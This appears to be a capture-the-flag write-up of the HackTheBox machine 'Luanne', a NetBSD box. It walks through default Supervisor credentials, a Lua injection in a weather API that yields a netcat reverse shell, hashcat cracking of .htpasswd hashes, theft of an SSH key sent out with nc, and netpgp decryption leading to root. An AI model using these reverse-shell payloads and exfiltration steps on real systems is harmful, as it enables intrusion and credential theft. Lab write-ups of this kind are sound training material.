Luanne was the fifth and final single taken from album 4 by the band Foreigner, Luanne is the niece-in-law of Hank Hill from the animatedseries King of the Hill and many more. Even though Luanne has a few things to cover on the internet this box has nothing to do with any of it. One thing that sticks with Luanne was Lua.

As always Nmap was done and it was a confusing result.

Nmap scan report for
Host is up (0.19s latency).
Not shown: 997 closed ports
22/tcp   open  ssh     OpenSSH 8.0 (NetBSD 20190418-hpn13v14-lpk; protocol 2.0)
| ssh-hostkey:
|   3072 20:97:7f:6c:4a:6e:5d:20:cf:fd:a3:aa:a9:0d:37:db (RSA)
|   521 35:c3:29:e1:87:70:6d:73:74:b2:a9:a2:04:a9:66:69 (ECDSA)
|_  256 b3:bd:31:6d:cc:22:6b:18:ed:27:66:b4:a7:2a:e4:a5 (ED25519)
80/tcp   open  http    nginx 1.19.0
| http-auth:
| HTTP/1.1 401 Unauthorized\x0D
|_  Basic realm=.
| http-robots.txt: 1 disallowed entry|_http-server-header: nginx/1.19.0
|_http-title: 401 Unauthorized
9001/tcp open  http    Medusa httpd 1.12 (Supervisor process manager)
| http-auth:
| HTTP/1.1 401 Unauthorized\x0D
|_  Basic realm=default
|_http-server-header: Medusa/1.12
|_http-title: Error response
Service Info: OS: NetBSD; CPE: cpe:/o:netbsd:netbsd

Few things to note from the result, it was running NetBSD and has got a 9001 port with a Medusa httpd. Without wasting much time both ports 80 & 9001 were checked.

hackthebox luanne | htb luanne

Surprisingly both gave the same stuff, but there was a difference with the errors triggered with invalid credentials. Port 9001 was running a service that was not heard before and proper reading on behalf of the service was not avoidable. Most of the services with login functionality are packed with default logins, it was the same for Supervisor process manager.The supervisor documentation had the default credentials, user:123, and these credentials gave access to the dashboard and following the process link made a connection with the box. Luanne was backed by Lua. Lua is a lightweight, high-level, multi-paradigm programming language designed primarily for embedded use in applications.

hackthe box luanne dashboard | htb luanne

_httpd     17473  0.0  0.0  35256  2332 ?     I    11:18PM 0:00.00 /usr/libexec/httpd -u -X -s -i -I 3000 -L weather /usr/local/webapi/weather.lua -U _httpd -b /var/www
_httpd     22974  0.0  0.0  35256  2332 ?     I     3:04PM 0:00.00 /usr/libexec/httpd -u -X -s -i -I 3000 -L weather /usr/local/webapi/weather.lua -U _httpd -b /var/www
_httpd     25499  0.0  0.0  35256  2332 ?     I     5:44PM 0:00.00 /usr/libexec/httpd -u -X -s -i -I 3000 -L weather /usr/local/webapi/weather.lua -U _httpd -b /var/www
_httpd     27626  0.0  0.0  35256  2328 ?     I     5:45PM 0:00.00/usr/libexec/httpd -u -X -s -i -I 3000 -L weather /usr/local/webapi/weather.lua -U _httpd -b /var/www
root         421  0.0  0.0  19780  1580 ttyE1 Is+  Sat01PM 0:00.00 /usr/libexec/getty Pc ttyE1
root         388  0.0  0.0  19780  1584 ttyE2 Is+  Sat01PM 0:00.00 /usr/libexec/getty Pc ttyE2
root         433  0.0  0.0  19780  1584 ttyE3 Is+  Sat01PM 0:00.00 /usr/libexec/getty Pc ttyE3

After keeping a note on the above list of processes, the next part was finding something to exploit. After roaming in and out google for medusa exploits and the dashboard for a possible entry point to the box, with no virtual hosts to lead ahead, it was time for a directory brute-forcing. The result was interesting with robots.txt,robots.txt can sometimes provide valid endpoints since this file is used to disallow crawlers from crawling. Robots.txt had a new path /weatherand a comment that /weather is returning 404 but still harvesting cities. Brute-forcing /weather endpoint with wordlists available in the seclists repository had a forecasting path,/weather/forecast. Accessing /weather/forecast made a new JSON response with a parameter city and a value list.

{"code": 200, "message": "No city specified. Use 'city=list' to list available cities."}

The new URL was With the parameter and value, it looked like a possible way to an RCE. The URL showed listed cities thatcan be queried for the weather report.

{"code": 200,"cities": ["London","Manchester","Birmingham","Leeds","Glasgow","Southampton","Liverpool","Newcastle","Nottingham","Sheffield","Bristol","Belfast","Leicester"]}

Parameters are always a potential candidate for RCE, but ls as the value didn’t list the files. Sometimes it won’t return anything and with that in mind, a reverse shell payload was created. The payload has to be specific to NetBSD, and it was different from the bash oneliner for Linux.Payload All Things has all the payloads required for penetration testing.

rm /tmp/f;mkfifo /tmp/f;cat /tmp/f | /bin/sh -i 2>&1 | nc 4242 >/tmp/f

The initial check with ls command proved that it was not executing anything, and hence the above payload didn’t work. Luanne was a NetBSD system and it was running Lua, so the approach has to be revamped. This was the first time with Lua, so a proper reading was required. A blog published by Syshunt had all the information needed to proceed. The payload was using os.execute that will execute an OS command similar to python -c 'import os; os.system("/bin/sh")'.

');os.execute("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc <ip> 4444 >/tmp/f")--

' & ) were used concerning the information from the blog. The above payload has to be URL encoded.<ip>%204444%20%3E%2Ftmp%2Ff%22%29-- Accessing the URL with a Netcat listener running gave back the reverse shell. The usual python TTY shell upgrade didn’t work here, a normal shell with no tab completions. It was really difficult to move around without a TTY shell, but it was not impossible.

The shell gave access to the machine as an httpd user, but shell access with higher privilege was required to grab the user.txt.Listing the users with home ls /home showed the user wasr.michaels. Escalation was not a big task, listing all the files including the hidden files in the /var/www/ directory had .htpassword file with a password hash.

$ ls -a
$ cat .htpasswd

Hash delivered in hack the box is normally crackable with a rockyou.txt file and hashcrack/john the ripper. Example hashes listed in the hashcat page proved that the hash was md5crypt. md5crypt can be cracked with mode 500. The command to crack the password was

 $ hashcat -m 500 -a 0 hashes rockyou.txt

-m 500 defines the md5crypt
-a 0 defines dictionary attack
hashes defines hash for the webapi_user
rockyou.txt defines the wordlist used for cracking

The cracked password was iamthebest.When new user creds are found, note that. Every piece of information is vital and credentials will help. That’s how all boxes are built. The process list that was fetched from the dashboard showed a port 3000 was alive on the localhost. The localhost should be accessible, from the box, but curling localhost returned a 401 Unauthorized error.

curl  http://localhost:3001

With the new password in the pocket, accessing the unauthorized won’t be a problem. This was confirmed since switching the user to web_api was not working with doas, doas is a sudo alternative in NetBSD. Connecting every piece of information is important. With curl --user,the credentials can be passed to the localhost.

$ doas webapi_user
doas: Operation not permitted
$ curl --user webapi_user:iamthebest http://localhost:3001

The above curl command returned the home page of the weather forecast. This means there was more to dig with these credentials. But how?

The local port was running the same weather forecasting application, but the shell was returned in /var/www. Two different locations for the same stuff. Exploiting the same vulnerability is not seen wild in hack the box, hence there was no point in checking the RCE with the credentials. But with no other leads, it was better to go for it. And the result was disappointing, even with the credentials in place, the RCE was not triggered.

Connecting previous dots..!Process list from the dashboard lead to the localhost, so it should lead to more clues. Manuals are always agold mine when we are stuck at something. The process had an entry similar to the below.

_httpd 17473 0.0 0.0 35256 2332 ? I 11:18PM 0:00.00 /usr/libexec/httpd -u -X -s -i -I 3000 -L weather /usr/local/webapi/weather.lua -U _httpd -b /var/www

Going after the /usr/libexec/httpd in the internet.The documentation for the httpd was available in the httpd manpage. The httpd program was called bozohttpd, and the bozohttpd manual was the right one. If the program or the application is not familiar to you, it is better to read the manual, RTFM !!! The manual had definitions for the parameters.

-u Enables the transformation of Uniform Resource Locators of the form /~user/ into the directory ~user/public_html
-X Enables directory indexing
-s Forces logging to be set to stderr always
-i Causes address to use used as the address to bind daemon mode
-I Causes bozohttpd to use port instead of the default http port
-L Adds a new Lua script for a particular prefix
-U Causes bozohttpd to switch to the user and the groups of username after initialization
-b Enables daemon mode, where bozohttpd detaches from the current terminal, runningin the background and servicing HTTP requests

Two of the above pieces of information were useful. Options for directory indexing and the transformation of Uniform Resources Locators of the form /~user. Directory indexing will index the files available in /~user as per the other flag. The user with higher privileges was already enumerated, r.michael.

$ curl --user webapi_user:iamthebest localhost:3001/~r.michaels/
<tr><td><a href="../">Parent Directory</a><td>16-Sep-2020 18:20<td align=right>1kB
<tr><td><a href="id_rsa">id_rsa</a><td>16-Sep-2020 16:52<td align=right>3kB

From the above results, it was clear an SSH key will help grab the user.txt. For later use it is better to copy the keys to the attacking machine.

Vulnerable Machine
$ curl --user webapi_user:iamthebest localhost:3001/~r.michaels/id_rsa > /tmp/keys
$ nc -w 3 1234 < /tmp/keys
Attacking machine
$ nc -lvnp 1234 > keys
$ chmod 400 keys
$ ssh -i sshkey [email protected]

The key file needs to be readable only by the user who is using it. That was the reason for changing the key permission to 400. After accessing Michael’s home directory, the user.txt can begrabbed. The next part was privilege escalation. Since the box was NetBSD, the initial thought was to search for NetBSD privilege escalation. That didn’t go well as planned and the usual checks for Sudo privileges and running processes were not worth the time since it was SSH shell and processes gave the shell. Once a piece of information has given the shell, usually, it won’t do anything else moving forward. Enumerating the home directory revealed three more directories and an encrypted file at /home/r.michaels/backups.

luanne$ ls -a
.            .gnupg       .profile     backups      user.txt
..           .login       .shrc        devel
.cshrc       .logout      .ssh         public_html

The encrypted file was a bit odd, but there was no information regarding the decryption process. Encrypted file in the backups and a GnuPG directory, connect the dots!

GnuPG is a complete and free implementation of the OpenPGP standard as defined by RFC4880 (also known as PGP). GnuPG allows you to encrypt and sign your data and communications; it features a versatile key management system, along with access modules for all kinds of public key directories.

GnuPG allows to encrypt and sign data & communications. Right now the files in /home/r.michaels/backups are encrypted and to read the data, files have to bedecrypted. But how ..? RTFM !! It is better to look for OS-specific manuals, that might avoid a few errors.NetBSD manpage had the manual for another program named netpgp.

The netpgp command can digitally sign files and verify that the signatures attached to files were signed by a given user identifier. netpgp can also encrypt files using the public or private keys of users and, in the same manner, decrypt files that were encrypted.

luanne$ netpgp --decrypt --output=decrypted.tar.gz \
dd.tar.gz: Permission denied
dd.tar.gz: Permission denied

Even though michaels had the privilege to read the user.txt, michaels had no privilege to create files in the home directory. The attacker or tester should be aware of the file structure of the vulnerable machine. Since the home directory had no privileges /tmp directory can be used to create files./tmp and /var/tmp have read, write and execute rights for all. With that privilege, the decryption can be done in the /tmp directory.

cp /home/r.michaels/backups/devel_backup-2020-09-16.tar.gz.enc /tmp
cd /tmp
netpgp --decrypt --output=devel_backup-2020-09-16.tar.gz devel_backup-2020-09-

Decryption process created a tar.gz file that has to be extracted using the tar cli tool.

luanne$ tar xvzf decrypted.tar.gz
x devel-2020-09-16/
x devel-2020-09-16/www/
x devel-2020-09-16/webapi/
x devel-2020-09-16/webapi/weather.lua
x devel-2020-09-16/www/index.html
x devel-2020-09-16/www/.htpasswd

There was a new hash in the .htpassword file. The hash was cracked using the same command that was used previously for webapi_user at the initial stage. The cracked password was littlebear, and to switch user doas was used.

luanne$ doas su
sh: Cannot determine current working directory
# id
uid=0(root) gid=0(wheel) groups=0(wheel),2(kmem),

Luanne was rooted, but the connection between Luanne and the weather was interesting. As mentioned at the beginning of this writeup,Luanne is the niece-in-lawof Hank Hill from the animated series King of the Hill, and digging more onthat Luanne was regarded as a weather girl in that series. Looks like there was indeed a connection. Thumbs up for that !!